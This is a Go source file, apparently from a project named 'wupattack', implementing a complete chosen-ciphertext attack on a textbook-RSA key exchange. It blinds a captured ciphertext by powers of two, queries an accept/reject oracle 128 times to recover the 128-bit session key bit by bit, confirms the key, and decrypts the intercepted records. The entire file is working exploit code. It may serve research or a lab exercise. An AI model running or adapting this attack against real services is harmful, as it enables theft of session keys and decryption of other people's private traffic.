// Package attack recovers a session key that was transported with textbook
// RSA, given only the public key, the captured ciphertext and an oracle that
// accepts or rejects requests.
//
// For t = 2^b the ciphertext C * 2^(b*e) mod n decrypts to m * 2^b mod n. While
// m < 2^128 and b <= 127 the product stays below n, so the oracle's truncation
// to 128 bits exposes one new bit of m per query.
package attack

import (
	"context"
	"errors"
	"math/big"

	"github.com/RedPaladin7/wupattack/record"
	"github.com/RedPaladin7/wupattack/rsa"
	"github.com/samber/oops"
	"github.com/sirupsen/logrus"
)

const keyBits = record.KeyBits

var (
	ErrModulusTooSmall = errors.New("attack: modulus too small, m*2^127 could wrap")
	ErrCapture         = errors.New("attack: captured request is not a single-block naive key exchange")
	ErrNotConfirmed    = errors.New("attack: oracle rejected the recovered key")
)

// Result describes a finished attack.
type Result struct {
	Key *big.Int
	// Queries counts every query the oracle answered, including Run's
	// confirmation whether or not it was accepted.
	Queries int
	// Records and Plaintext are filled by Run once the key is confirmed.
	Records   []*record.Record
	Plaintext string
}

type options struct {
	mac       string
	deviceID  string
	content   string
	newCipher record.CipherFactory
}

type Option func(*options)

// WithIdentity sets the mac and device id written into probe records.
func WithIdentity(mac, deviceID string) Option {
	return func(o *options) {
		o.mac = mac
		o.deviceID = deviceID
	}
}

func WithProbeContent(content string) Option {
	return func(o *options) { o.content = content }
}

// WithCipher replaces the record cipher. It must match the victim's.
func WithCipher(f record.CipherFactory) Option {
	return func(o *options) { o.newCipher = f }
}

func newOptions(opts []Option) *options {
	o := &options{
		mac:       "0000000",
		deviceID:  "0000000",
		content:   "probe",
		newCipher: record.NewAES,
	}
	for _, opt := range opts {
		opt(o)
	}
	return o
}

// Blind returns c * 2^(shift*e) mod n, an encryption of m * 2^shift mod n.
func Blind(pub *rsa.PublicKey, c *big.Int, shift uint) *big.Int {
	exp := new(big.Int).Mul(big.NewInt(int64(shift)), pub.E)
	factor := rsa.ModPow(big.NewInt(2), exp, pub.N)
	out := new(big.Int).Mul(c, factor)
	return out.Mod(out, pub.N)
}

func checkCapture(pub *rsa.PublicKey, captured record.Request) (*big.Int, error) {
	if pub.N.BitLen() <= 2*keyBits-1 {
		return nil, oops.Wrapf(ErrModulusTooSmall, "modulus has %d bits, need more than %d", pub.N.BitLen(), 2*keyBits-1)
	}
	if len(captured) == 0 {
		return nil, oops.Wrapf(ErrCapture, "empty request")
	}
	blocks := captured.EncryptedKey()
	if len(blocks) != 1 {
		return nil, oops.Wrapf(ErrCapture, "key material has %d blocks", len(blocks))
	}
	c := blocks[0]
	if c == nil || c.Sign() < 0 || c.Cmp(pub.N) >= 0 {
		return nil, oops.Wrapf(ErrCapture, "ciphertext outside [0, n)")
	}
	return c, nil
}

// probe builds a request for party under key material c whose records are
// sealed with key.
func (o *options) probe(captured record.Request, c, key *big.Int) (record.Request, error) {
	recs, err := record.Build(o.content, o.mac, o.deviceID)
	if err != nil {
		return nil, err
	}
	ciph, err := o.newCipher(key)
	if err != nil {
		return nil, err
	}
	sealed := make([][]byte, len(recs))
	for i, rec := range recs {
		if sealed[i], err = ciph.Seal(rec); err != nil {
			return nil, err
		}
	}
	return record.NewRequest(captured.PartyID(), []*big.Int{c}, sealed), nil
}

// RecoverKey runs the bit-recovery loop. It issues exactly 128 queries with
// the shift going from 127 down to 0, which exposes the key from its least
// significant bit upward.
func RecoverKey(ctx context.Context, pub *rsa.PublicKey, captured record.Request, oracle Oracle, opts ...Option) (*Result, error) {
	c, err := checkCapture(pub, captured)
	if err != nil {
		return nil, err
	}
	o := newOptions(opts)
	counter := &counting{Oracle: oracle}
	log := logrus.WithField("party", captured.PartyID())
	log.WithField("modulus_bits", pub.N.BitLen()).Info("starting session key recovery")

	recovered := new(big.Int)
	for b := keyBits - 1; b >= 0; b-- {
		blinded := Blind(pub, c, uint(b))
		// the oracle sees (m << b) mod 2^128: its top bit is the unknown one,
		// everything below it is already recovered or zero
		guess := record.Truncate(new(big.Int).Lsh(recovered, uint(b)))

		req, err := o.probe(captured, blinded, guess)
		if err != nil {
			return nil, oops.Wrapf(err, "building probe for bit %d", keyBits-1-b)
		}
		accepted, err := counter.Query(ctx, req)
		if err != nil {
			return nil, oops.Wrapf(err, "oracle query for shift %d", b)
		}
		if !accepted {
			recovered.SetBit(recovered, keyBits-1-b, 1)
		}
		log.WithFields(logrus.Fields{
			"shift":    b,
			"accepted": accepted,
		}).Debug("oracle answered")
	}

	log.WithField("queries", counter.queries).Info("session key recovered")
	return &Result{Key: recovered, Queries: counter.queries}, nil
}

// Confirm replays the captured key material with a probe sealed under key.
func Confirm(ctx context.Context, pub *rsa.PublicKey, captured record.Request, key *big.Int, oracle Oracle, opts ...Option) error {
	c, err := checkCapture(pub, captured)
	if err != nil {
		return err
	}
	o := newOptions(opts)
	req, err := o.probe(captured, c, key)
	if err != nil {
		return oops.Wrapf(err, "building confirmation probe")
	}
	accepted, err := oracle.Query(ctx, req)
	if err != nil {
		return oops.Wrapf(err, "confirmation query")
	}
	if !accepted {
		return oops.Wrapf(ErrNotConfirmed, "key %x", key)
	}
	return nil
}

// DecryptCapture opens every captured record offline with key.
func DecryptCapture(captured record.Request, key *big.Int, newCipher record.CipherFactory) ([]*record.Record, error) {
	if newCipher == nil {
		newCipher = record.NewAES
	}
	ciph, err := newCipher(key)
	if err != nil {
		return nil, err
	}
	out := make([]*record.Record, 0, len(captured))
	for i, env := range captured {
		pt, err := ciph.Open(env.Record)
		if err != nil {
			return nil, oops.Wrapf(err, "record %d", i)
		}
		rec, err := record.Parse(pt)
		if err != nil {
			return nil, oops.Wrapf(err, "record %d", i)
		}
		out = append(out, rec)
	}
	return out, nil
}

// Run recovers the key, confirms it with one more query and decrypts the
// captured traffic. On ErrNotConfirmed the partial Result is still returned.
func Run(ctx context.Context, pub *rsa.PublicKey, captured record.Request, oracle Oracle, opts ...Option) (*Result, error) {
	res, err := RecoverKey(ctx, pub, captured, oracle, opts...)
	if err != nil {
		return nil, err
	}
	err = Confirm(ctx, pub, captured, res.Key, oracle, opts...)
	if err == nil || errors.Is(err, ErrNotConfirmed) {
		res.Queries++
	}
	if err != nil {
		return res, err
	}

	o := newOptions(opts)
	recs, err := DecryptCapture(captured, res.Key, o.newCipher)
	if err != nil {
		return res, oops.Wrapf(err, "decrypting captured request")
	}
	res.Records = recs
	res.Plaintext = record.Join(recs)
	logrus.WithFields(logrus.Fields{
		"party":   captured.PartyID(),
		"records": len(recs),
	}).Info("captured request decrypted")
	return res, nil
}
